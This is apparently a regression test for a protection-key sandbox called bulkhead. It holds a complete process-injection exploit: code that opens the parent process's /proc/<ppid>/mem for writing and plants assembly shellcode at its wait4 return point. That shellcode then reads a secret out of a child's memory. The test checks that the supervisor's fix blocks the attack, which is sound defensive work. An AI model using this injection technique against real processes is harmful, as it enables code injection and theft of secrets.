// Review 31, attacker model B (the default domain's program counter, any
// system call the filter allows), as root: code outside the filter, put
// there by the program itself. The supervisor refuses procfs "mem" files
// of our process and of the supervisor only, and review 30's fix
// (supervisor-open.c bh_kernel_setting) lets every /proc/<pid>/... file
// through, another process's too. So root opens /proc/<ppid>/mem for
// writing: the memory of its parent, a process that runs under no filter
// and no supervisor, and writes code into it. When that code runs, it
// reads the program's memory (here a fork's: the same bytes) through
// /proc/<pid>/mem, protection keys ignored. Any other process outside
// the filter that root's ptrace access reaches (init, a daemon, a shell)
// would do; the parent just wakes up at a known place.
//
// Here main, root, forks a child that keeps a copy of the vault's memory
// and sleeps, reads its parent's stopped instruction from
// /proc/<ppid>/syscall (the parent waits in wait4 for main), and writes
// there, through /proc/<ppid>/mem, a payload: open /proc/<child>/mem,
// pread the secret's address, write "ATTACK SUCCEEDED..." and the bytes
// read to its standard output (the pipe the program's output goes to),
// exit. Then main returns; the parent's wait4 returns into the payload.
// The control reads the secret from the default domain and faults.
//
// Seen in the guest (root): ATTACK SUCCEEDED, the vault's secret printed
// by the parent (busybox time). Root is not needed where Yama's
// ptrace_scope is 0 (the guest's; Debian's default) or Yama is absent:
// run as nobody under a shell of nobody's (dash -c "prog; true"), the
// payload went into the shell, and also printed the secret (seen in the
// guest, the NOBODY run).
//
// Fixed: the supervisor refuses our process's opens of every process's
// mem file, and opens for writing of another process's /proc/<pid>/...
// files (runtime/supervisor-open.c judge, bh_kernel_setting).
// REQUIRES: pku
// RUN: rm -rf %t && mkdir %t
// RUN: %bulkhead_clang -fpkey-compartments -O1 %s -o %t/prog
// RUN: %run %t/prog control > %t/control.out 2>&1 || true
// RUN: FileCheck %s --check-prefix=CONTROL < %t/control.out
// RUN: %run %t/prog attack > %t/out 2>&1 || true
// RUN: FileCheck %s < %t/out
// RUN: env BULKHEAD_VM_FILES=%t/prog:/lib/x86_64-linux-gnu/libmimalloc.so.2:/lib/x86_64-linux-gnu/libgcc_s.so.1 %run /usr/bin/setpriv --reuid=65534 --regid=65534 --clear-groups /bin/dash -c "%t/prog attack; true" > %t/nobody.out 2>&1 || true
// RUN: FileCheck %s --check-prefix=NOBODY < %t/nobody.out
// CONTROL: uid 0
// CONTROL-NOT: ATTACK SUCCEEDED
// CONTROL: bulkhead: protection-key fault: access to 0x{{[0-9a-f]+}} in compartment 'vault'
// CHECK: uid 0
// CHECK-NOT: ATTACK SUCCEEDED
// CHECK: bulkhead: denied: open{{.*}}/mem
// NOBODY: uid 65534
// NOBODY-NOT: ATTACK SUCCEEDED
// NOBODY: bulkhead: denied: open{{.*}}/mem
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/wait.h>
#include <unistd.h>

#include <bulkhead.h>

BULKHEAD_DATA(vault) static char secret[32] = "TOP-SECRET-VAULT-KEY";
BULKHEAD_ENTRY(vault) int vault_len(void) { return (int)strlen(secret); }

/* The payload, position independent, run by the parent: raw system calls
 * only, its buffer on the parent's stack. Data words after the code:
 * the secret's address, the child's mem path (filled in by main). */
extern const unsigned char rev31_payload[], rev31_payload_end[],
    rev31_addr[], rev31_path[];
__asm__(".section .rodata\n"
        "rev31_payload:\n"
        "  sub $512, %rsp\n"
        "  and $-16, %rsp\n"
        "  lea rev31_path(%rip), %rdi\n"
        "  xor %esi, %esi\n"
        "  mov $2, %eax\n" /* open */
        "  syscall\n"
        "  mov %rax, %rdi\n"
        "  mov %rsp, %rsi\n"
        "  mov $31, %edx\n"
        "  mov rev31_addr(%rip), %r10\n"
        "  mov $17, %eax\n" /* pread64 */
        "  syscall\n"
        "  mov $1, %edi\n"
        "  lea rev31_msg(%rip), %rsi\n"
        "  mov $(rev31_msg_end - rev31_msg), %edx\n"
        "  mov $1, %eax\n" /* write */
        "  syscall\n"
        "  mov $1, %edi\n"
        "  mov %rsp, %rsi\n"
        "  mov $31, %edx\n"
        "  mov $1, %eax\n"
        "  syscall\n"
        "  mov $1, %edi\n"
        "  lea rev31_msg_end(%rip), %rsi\n"
        "  mov $1, %edx\n"
        "  mov $1, %eax\n"
        "  syscall\n"
        "  xor %edi, %edi\n"
        "  mov $231, %eax\n" /* exit_group */
        "  syscall\n"
        "rev31_msg:\n"
        "  .ascii \"ATTACK SUCCEEDED: the parent, outside the filter, read "
        "the vault's secret: \"\n"
        "rev31_msg_end:\n"
        "  .ascii \"\\n\"\n"
        "  .balign 8\n"
        "rev31_addr:\n"
        "  .quad 0\n"
        "rev31_path:\n"
        "  .space 64\n"
        "rev31_payload_end:\n"
        "  .previous\n");

int main(int argc, char **argv) {
  printf("uid %d\nvault says %d\n", (int)getuid(), vault_len());
  fflush(stdout);
  if (argc < 2)
    return 2;
  static char copy[32];
  if (strcmp(argv[1], "attack")) {
    memcpy(copy, secret, 31); /* faults: the vault is closed here */
    printf("read directly: %s\n", copy);
    return 0;
  }
  pid_t child = fork();
  if (child == 0) {
    sleep(10); /* keeps the vault's bytes while the parent reads them */
    _exit(0);
  }
  size_t len = (size_t)(rev31_payload_end - rev31_payload);
  unsigned char *code = malloc(len);
  memcpy(code, rev31_payload, len);
  unsigned long addr = (unsigned long)secret;
  memcpy(code + (rev31_addr - rev31_payload), &addr, sizeof addr);
  snprintf((char *)code + (rev31_path - rev31_payload), 64, "/proc/%d/mem",
           (int)child);

  char path[64], line[512];
  snprintf(path, sizeof path, "/proc/%d/syscall", (int)getppid());
  int fd = open(path, O_RDONLY);
  ssize_t n = fd < 0 ? -1 : read(fd, line, sizeof line - 1);
  line[n > 0 ? n : 0] = 0;
  long nr = -1;
  unsigned long a[6], sp = 0, pc = 0;
  sscanf(line, "%ld %lx %lx %lx %lx %lx %lx %lx %lx", &nr, &a[0], &a[1],
         &a[2], &a[3], &a[4], &a[5], &sp, &pc);
  printf("parent %d waits in call %ld at 0x%lx\n", (int)getppid(), nr, pc);
  snprintf(path, sizeof path, "/proc/%d/mem", (int)getppid());
  int mem = open(path, O_RDWR);
  long put = mem < 0 ? -1 : (long)pwrite(mem, code, len, (off_t)pc);
  printf("parent's mem opened for writing: %d, payload written: %ld of %zu\n",
         mem >= 0, put, len);
  fflush(stdout);
  return 0; /* the parent's wait4 returns into the payload */
}
